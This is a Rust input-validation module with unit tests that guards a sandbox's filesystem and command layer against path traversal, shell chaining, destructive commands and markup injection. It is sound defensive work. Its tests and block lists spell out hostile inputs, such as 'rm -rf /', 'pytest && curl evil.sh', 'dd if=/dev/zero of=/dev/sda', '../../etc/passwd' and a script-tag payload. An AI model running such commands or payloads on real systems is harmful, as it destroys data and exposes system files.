//! Input validation for everything that reaches the filesystem or the command layer.
//!
//! Every check returns a [`ValidationOutcome`] instead of an error: malicious input is an
//! expected value here, not an exceptional one. Callers convert a rejection into a
//! [`TypedError`] at their API boundary with [`ValidationOutcome::into_result`].
//!
//! ## Security
//! Paths are normalized lexically and, where they already exist on disk, canonicalized so
//! symlinks pointing outside the workspace are caught. Commands are checked both for shell
//! chaining/substitution and for destructive programs. The `sanitize_*` helpers only ever
//! return values that pass the matching `validate_*` check again.

use crate::error::TypedError;
use serde::Serialize;
use std::path::{Component, Path, PathBuf};

/// Upper bound for free-text fields, in characters.
pub const MAX_USER_INPUT_CHARS: usize = 4096;
/// Upper bound for a single filename, in bytes.
pub const MAX_FILENAME_BYTES: usize = 255;

/// Shell operators that chain, substitute or redirect commands, longest first.
const SHELL_METACHARACTERS: &[&str] = &["&&", "||", "$(", "${", ";", "|", "`", ">", "<", "&"];

/// Markers that would be interpreted by downstream templating or rendering.
const INJECTION_MARKERS: &[&str] = &["<script", "javascript:", "{{", "{%"];

const RESERVED_DEVICE_NAMES: &[&str] = &[
    "CON", "PRN", "AUX", "NUL", "COM1", "COM2", "COM3", "COM4", "COM5", "COM6", "COM7", "COM8",
    "COM9", "LPT1", "LPT2", "LPT3", "LPT4", "LPT5", "LPT6", "LPT7", "LPT8", "LPT9",
];

const FORBIDDEN_FILENAME_CHARS: &[char] = &['<', '>', ':', '"', '|', '?', '*'];

/// Targets that make a recursive delete/chmod catastrophic.
const ROOT_LIKE_TARGETS: &[&str] = &[
    "/", "/*", "~", "~/", "~/*", "*", ".", "./", "..", "$HOME", "/bin", "/boot", "/dev", "/etc",
    "/home", "/lib", "/lib64", "/opt", "/proc", "/root", "/sbin", "/sys", "/usr", "/var",
];

const PRIVILEGE_ESCALATION: &[&str] = &["sudo", "su", "doas", "pkexec"];
const POWER_CONTROL: &[&str] = &["shutdown", "reboot", "halt", "poweroff", "init"];
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh"];

/// Which rule rejected a candidate.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ValidationRule {
    PathTraversal,
    CommandInjection,
    InvalidFilename,
    InvalidInput,
}

/// Verdict of a single validation check.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct ValidationOutcome {
    pub valid: bool,
    /// Normalized value, present when `valid`.
    pub value: Option<String>,
    /// Human-readable rejection reason, present when not `valid`.
    pub reason: Option<String>,
    pub rule: Option<ValidationRule>,
    /// The offending token (e.g. `&&`), when one can be named.
    pub matched: Option<String>,
    candidate: String,
}

impl ValidationOutcome {
    fn accept(candidate: &str, value: impl Into<String>) -> Self {
        Self {
            valid: true,
            value: Some(value.into()),
            reason: None,
            rule: None,
            matched: None,
            candidate: candidate.to_string(),
        }
    }

    fn reject(candidate: &str, rule: ValidationRule, reason: impl Into<String>) -> Self {
        Self {
            valid: false,
            value: None,
            reason: Some(reason.into()),
            rule: Some(rule),
            matched: None,
            candidate: candidate.to_string(),
        }
    }

    fn with_match(mut self, token: impl Into<String>) -> Self {
        self.matched = Some(token.into());
        self
    }

    pub fn is_valid(&self) -> bool {
        self.valid
    }

    pub fn value(&self) -> Option<&str> {
        self.value.as_deref()
    }

    pub fn reason(&self) -> Option<&str> {
        self.reason.as_deref()
    }

    /// Convert into the normalized value, or the typed error naming `field`.
    pub fn into_result(self, field: &str) -> Result<String, TypedError> {
        if self.valid {
            return Ok(self.value.unwrap_or_default());
        }

        let reason = self.reason.unwrap_or_else(|| "rejected".to_string());
        Err(match self.rule {
            Some(ValidationRule::PathTraversal) => {
                TypedError::path_traversal(field, self.candidate, reason)
            }
            Some(ValidationRule::CommandInjection) => TypedError::command_injection(
                field,
                self.matched.unwrap_or_else(|| self.candidate.clone()),
                reason,
            ),
            Some(ValidationRule::InvalidFilename)
            | Some(ValidationRule::InvalidInput)
            | None => TypedError::input_validation(field, reason),
        })
    }
}

fn find_control_char(candidate: &str, allowed: &[char]) -> Option<char> {
    candidate
        .chars()
        .find(|c| c.is_control() && !allowed.contains(c))
}

/// Normalize a path lexically (without filesystem access).
///
/// `..` never climbs above the root component.
pub fn normalize_path_lexically(path: &Path) -> PathBuf {
    let mut stack = Vec::new();

    for component in path.components() {
        match component {
            Component::CurDir => {}
            Component::ParentDir => {
                if stack
                    .last()
                    .is_some_and(|c| !matches!(c, Component::RootDir | Component::Prefix(_)))
                {
                    stack.pop();
                }
            }
            c => stack.push(c),
        }
    }

    stack.iter().collect()
}

/// Canonicalize the deepest ancestor of `path` that exists on disk.
fn canonicalize_existing_ancestor(path: &Path) -> Option<PathBuf> {
    let mut current = Some(path);
    while let Some(p) = current {
        if let Ok(canonical) = std::fs::canonicalize(p) {
            return Some(canonical);
        }
        current = p.parent();
    }
    None
}

/// Lexical checks shared by [`validate_path`] and [`validate_relative_path`].
fn check_path_syntax(candidate: &str) -> Option<ValidationOutcome> {
    if candidate.trim().is_empty() {
        return Some(ValidationOutcome::reject(
            candidate,
            ValidationRule::InvalidInput,
            "path is empty",
        ));
    }
    if candidate.contains('\0') {
        return Some(ValidationOutcome::reject(
            candidate,
            ValidationRule::InvalidInput,
            "path contains a null byte",
        ));
    }
    if let Some(c) = find_control_char(candidate, &[]) {
        return Some(ValidationOutcome::reject(
            candidate,
            ValidationRule::InvalidInput,
            format!("path contains control character {:?}", c),
        ));
    }
    if Path::new(candidate)
        .components()
        .any(|c| c == Component::ParentDir)
    {
        return Some(
            ValidationOutcome::reject(
                candidate,
                ValidationRule::PathTraversal,
                "path contains '..' segments",
            )
            .with_match(".."),
        );
    }
    None
}

/// Resolve `candidate` against `workspace_root` and require it to stay inside the root.
///
/// Relative candidates are joined onto the root; absolute candidates must already point
/// inside it. The returned value is the normalized absolute path.
pub fn validate_path(candidate: &str, workspace_root: &Path) -> ValidationOutcome {
    if let Some(rejection) = check_path_syntax(candidate) {
        return rejection;
    }

    let root = normalize_path_lexically(workspace_root);
    let requested = Path::new(candidate);
    let joined = if requested.is_absolute() {
        requested.to_path_buf()
    } else {
        root.join(requested)
    };
    let resolved = normalize_path_lexically(&joined);

    if !resolved.starts_with(&root) {
        return ValidationOutcome::reject(
            candidate,
            ValidationRule::PathTraversal,
            format!("path resolves outside the workspace root {:?}", root),
        );
    }

    // Symlinks inside the workspace may still point outside of it.
    if let Ok(root_canonical) = std::fs::canonicalize(&root)
        && let Some(ancestor) = canonicalize_existing_ancestor(&resolved)
        && !ancestor.starts_with(&root_canonical)
    {
        return ValidationOutcome::reject(
            candidate,
            ValidationRule::PathTraversal,
            format!("path escapes the workspace root through a symlink ({:?})", ancestor),
        );
    }

    ValidationOutcome::accept(candidate, resolved.to_string_lossy())
}

/// Lexical-only validation of a workspace-relative path, used before a sandbox exists.
///
/// The returned value is the normalized relative path (`"."` for the workspace itself).
pub fn validate_relative_path(candidate: &str) -> ValidationOutcome {
    if let Some(rejection) = check_path_syntax(candidate) {
        return rejection;
    }

    let requested = Path::new(candidate);
    if requested.has_root() || requested.is_absolute() {
        return ValidationOutcome::reject(
            candidate,
            ValidationRule::PathTraversal,
            "absolute paths are not allowed; use a path relative to the workspace",
        );
    }

    let normalized = normalize_path_lexically(requested);
    if normalized.as_os_str().is_empty() {
        return ValidationOutcome::accept(candidate, ".");
    }
    ValidationOutcome::accept(candidate, normalized.to_string_lossy())
}

/// Reject shell strings that chain, substitute or redirect, and destructive commands.
///
/// The normalized value is the command re-quoted from its argument vector.
pub fn validate_command(candidate: &str) -> ValidationOutcome {
    if candidate.trim().is_empty() {
        return ValidationOutcome::reject(candidate, ValidationRule::InvalidInput, "command is empty");
    }
    if let Some(c) = find_control_char(candidate, &['\t']) {
        return ValidationOutcome::reject(
            candidate,
            ValidationRule::CommandInjection,
            format!("command contains control character {:?}", c),
        )
        .with_match(c.escape_default().to_string());
    }
    if candidate.contains(":(){") || candidate.contains(":() {") {
        return ValidationOutcome::reject(
            candidate,
            ValidationRule::CommandInjection,
            "command contains a fork bomb",
        )
        .with_match(":(){");
    }
    if let Some(token) = SHELL_METACHARACTERS.iter().find(|t| candidate.contains(*t)) {
        return ValidationOutcome::reject(
            candidate,
            ValidationRule::CommandInjection,
            format!("command contains shell operator '{}'", token),
        )
        .with_match(*token);
    }

    let argv = match shell_words::split(candidate) {
        Ok(argv) => argv,
        Err(e) => {
            return ValidationOutcome::reject(
                candidate,
                ValidationRule::InvalidInput,
                format!("command cannot be split into arguments: {}", e),
            );
        }
    };

    validate_argv_against(candidate, &argv)
}

/// Validate a command that is already an argument vector.
///
/// Metacharacters are inert when no shell is involved, so only destructive programs,
/// nested shell strings, null bytes and an empty program are rejected.
pub fn validate_argv(argv: &[String]) -> ValidationOutcome {
    let joined = shell_words::join(argv);
    validate_argv_against(&joined, argv)
}

fn validate_argv_against(candidate: &str, argv: &[String]) -> ValidationOutcome {
    let Some(program) = argv.first() else {
        return ValidationOutcome::reject(candidate, ValidationRule::InvalidInput, "command is empty");
    };
    if program.trim().is_empty() {
        return ValidationOutcome::reject(
            candidate,
            ValidationRule::InvalidInput,
            "program name is empty",
        );
    }
    if argv.iter().any(|a| a.contains('\0')) {
        return ValidationOutcome::reject(
            candidate,
            ValidationRule::CommandInjection,
            "argument contains a null byte",
        );
    }
    if let Some(rejection) = check_destructive(candidate, argv) {
        return rejection;
    }

    // `sh -c "<string>"` reintroduces a shell; validate the string as one.
    let name = program_name(program);
    if SHELLS.contains(&name.as_str())
        && let Some(pos) = argv.iter().position(|a| a == "-c")
        && let Some(script) = argv.get(pos + 1)
    {
        let nested = validate_command(script);
        if !nested.is_valid() {
            return nested;
        }
    }

    ValidationOutcome::accept(candidate, shell_words::join(argv))
}

fn program_name(program: &str) -> String {
    Path::new(program)
        .file_name()
        .map(|n| n.to_string_lossy().into_owned())
        .unwrap_or_else(|| program.to_string())
}

fn has_recursive_flag(args: &[String]) -> bool {
    args.iter().any(|a| {
        a == "--recursive"
            || (a.starts_with('-') && !a.starts_with("--") && (a.contains('r') || a.contains('R')))
    })
}

fn check_destructive(candidate: &str, argv: &[String]) -> Option<ValidationOutcome> {
    let name = program_name(&argv[0]);
    let args = &argv[1..];
    let destructive = |reason: &str| {
        Some(
            ValidationOutcome::reject(candidate, ValidationRule::CommandInjection, reason)
                .with_match(name.clone()),
        )
    };

    if PRIVILEGE_ESCALATION.contains(&name.as_str()) {
        return destructive("privilege escalation is not allowed inside the sandbox");
    }
    if POWER_CONTROL.contains(&name.as_str()) {
        return destructive("power-control commands are not allowed");
    }
    if name == "mkfs" || name.starts_with("mkfs.") {
        return destructive("formatting filesystems is not allowed");
    }
    if args.iter().any(|a| a == "--no-preserve-root") {
        return destructive("'--no-preserve-root' is not allowed");
    }

    let hits_root = || args.iter().any(|a| ROOT_LIKE_TARGETS.contains(&a.as_str()));
    match name.as_str() {
        "rm" if has_recursive_flag(args) && hits_root() => {
            destructive("recursive delete of a root-like path")
        }
        "chmod" | "chown" | "chgrp" if has_recursive_flag(args) && hits_root() => {
            destructive("recursive permission change of a root-like path")
        }
        "dd" if args.iter().any(|a| a.starts_with("of=/dev/")) => {
            destructive("writing raw devices is not allowed")
        }
        _ => None,
    }
}

/// Reject names that could traverse, hide, or collide with reserved device names.
pub fn validate_filename(candidate: &str) -> ValidationOutcome {
    let reject = |reason: String| {
        ValidationOutcome::reject(candidate, ValidationRule::InvalidFilename, reason)
    };

    if candidate.is_empty() {
        return reject("filename is empty".to_string());
    }
    if candidate.len() > MAX_FILENAME_BYTES {
        return reject(format!(
            "filename is longer than {} bytes",
            MAX_FILENAME_BYTES
        ));
    }
    if candidate == "." || candidate == ".." {
        return reject("filename cannot be '.' or '..'".to_string());
    }
    if candidate.contains('/') || candidate.contains('\\') {
        return reject("filename contains a path separator".to_string());
    }
    if candidate.starts_with('.') {
        return reject("filename starts with a dot".to_string());
    }
    if let Some(c) = find_control_char(candidate, &[]) {
        return reject(format!("filename contains control character {:?}", c));
    }
    if let Some(c) = candidate.chars().find(|c| FORBIDDEN_FILENAME_CHARS.contains(c)) {
        return reject(format!("filename contains forbidden character '{}'", c));
    }
    if candidate.ends_with('.') || candidate.ends_with(' ') {
        return reject("filename ends with a dot or space".to_string());
    }
    let stem = candidate.split('.').next().unwrap_or(candidate);
    if RESERVED_DEVICE_NAMES
        .iter()
        .any(|r| r.eq_ignore_ascii_case(stem.trim_end()))
    {
        return reject(format!("'{}' is a reserved device name", stem));
    }

    ValidationOutcome::accept(candidate, candidate)
}

/// Bound free text by length and character class.
pub fn validate_user_input(candidate: &str) -> ValidationOutcome {
    let reject =
        |reason: String| ValidationOutcome::reject(candidate, ValidationRule::InvalidInput, reason);

    let trimmed = candidate.trim();
    if trimmed.is_empty() {
        return reject("input is empty".to_string());
    }
    if trimmed.chars().count() > MAX_USER_INPUT_CHARS {
        return reject(format!(
            "input is longer than {} characters",
            MAX_USER_INPUT_CHARS
        ));
    }
    if let Some(c) = find_control_char(trimmed, &['\n', '\t', '\r']) {
        return reject(format!("input contains control character {:?}", c));
    }
    let lower = trimmed.to_lowercase();
    if let Some(marker) = INJECTION_MARKERS.iter().find(|m| lower.contains(*m)) {
        return reject(format!("input contains markup '{}'", marker)).with_match(*marker);
    }

    ValidationOutcome::accept(candidate, trimmed)
}

fn truncate_bytes(value: &mut String, max_bytes: usize) {
    if value.len() <= max_bytes {
        return;
    }
    let mut cut = max_bytes;
    while !value.is_char_boundary(cut) {
        cut -= 1;
    }
    value.truncate(cut);
}

/// Best-effort reduction of `candidate` to a valid filename.
pub fn sanitize_filename(candidate: &str) -> Option<String> {
    let last = candidate.rsplit(['/', '\\']).next().unwrap_or(candidate);
    let mut cleaned: String = last
        .chars()
        .filter(|c| !c.is_control() && !FORBIDDEN_FILENAME_CHARS.contains(c))
        .collect();
    cleaned = cleaned.trim().trim_start_matches('.').to_string();
    truncate_bytes(&mut cleaned, MAX_FILENAME_BYTES);
    cleaned = cleaned.trim_end_matches(['.', ' ']).to_string();

    let stem = cleaned.split('.').next().unwrap_or("");
    if RESERVED_DEVICE_NAMES
        .iter()
        .any(|r| r.eq_ignore_ascii_case(stem))
    {
        cleaned.insert(0, '_');
        truncate_bytes(&mut cleaned, MAX_FILENAME_BYTES);
    }

    validate_filename(&cleaned).is_valid().then_some(cleaned)
}

/// Best-effort reduction of `candidate` to valid free text.
pub fn sanitize_user_input(candidate: &str) -> Option<String> {
    let mut cleaned: String = candidate
        .chars()
        .filter(|c| !matches!(c, '<' | '>' | '{' | '}'))
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
        .collect();

    // Removing one marker can splice another together, so repeat until stable.
    loop {
        let lower = cleaned.to_lowercase();
        match lower.find("javascript:") {
            Some(start) if lower.len() == cleaned.len() => {
                cleaned.replace_range(start..start + "javascript:".len(), "");
            }
            Some(_) => {
                cleaned = cleaned.replace(':', "");
            }
            None => break,
        }
    }

    let mut cleaned: String = cleaned.trim().chars().take(MAX_USER_INPUT_CHARS).collect();
    cleaned = cleaned.trim().to_string();

    validate_user_input(&cleaned).is_valid().then_some(cleaned)
}

/// Best-effort reduction of `candidate` to a valid workspace-relative path.
///
/// Traversal, root and empty components are dropped rather than resolved.
pub fn sanitize_path(candidate: &str) -> Option<PathBuf> {
    let cleaned: String = candidate.chars().filter(|c| !c.is_control()).collect();
    let path: PathBuf = cleaned
        .split(['/', '\\'])
        .filter(|part| !part.is_empty() && *part != "." && *part != "..")
        .collect();

    if path.as_os_str().is_empty() {
        return None;
    }

    let outcome = validate_relative_path(&path.to_string_lossy());
    outcome.is_valid().then_some(path)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::ErrorKind;
    use tempfile::TempDir;

    #[test]
    fn test_validate_path_inside() {
        let temp = TempDir::new().unwrap();
        let outcome = validate_path("src/main.py", temp.path());
        assert!(outcome.is_valid(), "{:?}", outcome.reason);
        let resolved = PathBuf::from(outcome.value().unwrap());
        assert!(resolved.starts_with(temp.path()));
        assert!(resolved.ends_with("src/main.py"));
    }

    #[test]
    fn test_validate_path_rejects_traversal() {
        let temp = TempDir::new().unwrap();
        for candidate in ["../outside.txt", "../../etc/passwd", "a/../../b", "a/.."] {
            let outcome = validate_path(candidate, temp.path());
            assert!(!outcome.is_valid(), "{candidate} should be rejected");
            assert_eq!(outcome.rule, Some(ValidationRule::PathTraversal));
        }
    }

    #[test]
    fn test_validate_path_rejects_absolute_outside() {
        let temp = TempDir::new().unwrap();
        let outcome = validate_path("/etc/passwd", temp.path());
        assert!(!outcome.is_valid());
        assert_eq!(outcome.rule, Some(ValidationRule::PathTraversal));
    }

    #[test]
    fn test_validate_path_accepts_absolute_inside() {
        let temp = TempDir::new().unwrap();
        let inside = temp.path().join("data.csv");
        let outcome = validate_path(&inside.to_string_lossy(), temp.path());
        assert!(outcome.is_valid());
    }

    #[test]
    fn test_validate_path_rejects_null_and_control() {
        let temp = TempDir::new().unwrap();
        assert!(!validate_path("a\0b", temp.path()).is_valid());
        assert!(!validate_path("a\nb", temp.path()).is_valid());
        assert!(!validate_path("", temp.path()).is_valid());
    }

    #[cfg(unix)]
    #[test]
    fn test_validate_path_symlink_escape_blocked() {
        let temp = TempDir::new().unwrap();
        let root = temp.path().join("root");
        std::fs::create_dir(&root).unwrap();
        std::os::unix::fs::symlink(temp.path(), root.join("escape")).unwrap();

        let outcome = validate_path("escape/secret.txt", &root);
        assert!(!outcome.is_valid());
        assert_eq!(outcome.rule, Some(ValidationRule::PathTraversal));
    }

    #[test]
    fn test_validate_relative_path() {
        assert_eq!(validate_relative_path("./src//app.py").value(), Some("src/app.py"));
        assert_eq!(validate_relative_path(".").value(), Some("."));
        assert!(!validate_relative_path("/etc/passwd").is_valid());
        assert!(!validate_relative_path("../x").is_valid());
    }

    #[test]
    fn test_validate_command_rejects_chaining() {
        for candidate in [
            "ls; rm -rf /",
            "pytest && curl evil.sh",
            "a || b",
            "echo `id`",
            "echo $(id)",
            "cat x | sh",
            "echo hi > /etc/passwd",
            "pytest\nrm x",
        ] {
            let outcome = validate_command(candidate);
            assert!(!outcome.is_valid(), "{candidate:?} should be rejected");
            assert_eq!(outcome.rule, Some(ValidationRule::CommandInjection));
        }
    }

    #[test]
    fn test_validate_command_accepts_plain_command() {
        let outcome = validate_command("python -m pytest -q tests/test_app.py");
        assert!(outcome.is_valid());
        assert_eq!(outcome.value(), Some("python -m pytest -q tests/test_app.py"));
    }

    #[test]
    fn test_validate_command_rejects_destructive() {
        for candidate in [
            "rm -rf /",
            "rm -fr ~",
            "/bin/rm --recursive /etc",
            "sudo pytest",
            "mkfs.ext4 /dev/sda1",
            "dd if=/dev/zero of=/dev/sda",
            "chmod -R 777 /",
            "rm -r --no-preserve-root x",
        ] {
            assert!(!validate_command(candidate).is_valid(), "{candidate}");
        }
        assert!(validate_command("rm -rf build").is_valid());
    }

    #[test]
    fn test_validate_command_rejects_unbalanced_quotes() {
        let outcome = validate_command("echo 'unterminated");
        assert_eq!(outcome.rule, Some(ValidationRule::InvalidInput));
    }

    #[test]
    fn test_validate_argv_allows_inert_metacharacters() {
        let argv = vec!["python3".to_string(), "-c".to_string(), "print('a;b')".to_string()];
        assert!(validate_argv(&argv).is_valid());

        let nested = vec!["bash".to_string(), "-c".to_string(), "ls; rm x".to_string()];
        assert!(!validate_argv(&nested).is_valid());

        let destructive = vec!["rm".to_string(), "-rf".to_string(), "/".to_string()];
        assert!(!validate_argv(&destructive).is_valid());
    }

    #[test]
    fn test_validate_filename() {
        assert!(validate_filename("report.pdf").is_valid());
        for bad in ["", ".", "..", ".env", "a/b", "a\\b", "CON", "nul.txt", "a?b", "trail."] {
            assert!(!validate_filename(bad).is_valid(), "{bad:?}");
        }
        assert!(!validate_filename(&"a".repeat(300)).is_valid());
    }

    #[test]
    fn test_validate_user_input() {
        assert_eq!(
            validate_user_input("  summarize the quarterly report\n").value(),
            Some("summarize the quarterly report")
        );
        assert!(!validate_user_input("   ").is_valid());
        assert!(!validate_user_input("hi <script>alert(1)</script>").is_valid());
        assert!(!validate_user_input("{{ config }}").is_valid());
        assert!(!validate_user_input("bell\u{7}").is_valid());
        assert!(!validate_user_input(&"x".repeat(MAX_USER_INPUT_CHARS + 1)).is_valid());
    }

    #[test]
    fn test_sanitized_values_revalidate() {
        let name = sanitize_filename("../../.hidden<script>.py").unwrap();
        assert!(validate_filename(&name).is_valid());
        assert_eq!(name, "hiddenscript.py");

        assert_eq!(sanitize_filename("con.txt").as_deref(), Some("_con.txt"));
        assert_eq!(sanitize_filename("...."), None);

        let text = sanitize_user_input("<scr<script>ipt> hello {{x}} javajavascript:script:").unwrap();
        assert!(validate_user_input(&text).is_valid());

        let path = sanitize_path("../../etc/./passwd").unwrap();
        assert_eq!(path, PathBuf::from("etc/passwd"));
        assert!(validate_relative_path(&path.to_string_lossy()).is_valid());
        assert_eq!(sanitize_path("../.."), None);
    }

    #[test]
    fn test_into_result_maps_rules_to_kinds() {
        let temp = TempDir::new().unwrap();
        let err = validate_path("../../etc/passwd", temp.path())
            .into_result("target_path")
            .unwrap_err();
        assert_eq!(err.kind(), ErrorKind::PathTraversal);

        let err = validate_command("a && b").into_result("command").unwrap_err();
        assert_eq!(err.kind(), ErrorKind::CommandInjection);
        assert!(err.message.contains("command"));

        let err = validate_filename(".env").into_result("filename").unwrap_err();
        assert_eq!(err.kind(), ErrorKind::InputValidation);
    }

    #[test]
    fn test_normalize_path_lexically() {
        assert_eq!(
            normalize_path_lexically(Path::new("/a/./b/../c")),
            PathBuf::from("/a/c")
        );
        assert_eq!(normalize_path_lexically(Path::new("/a/../..")), PathBuf::from("/"));
    }
}
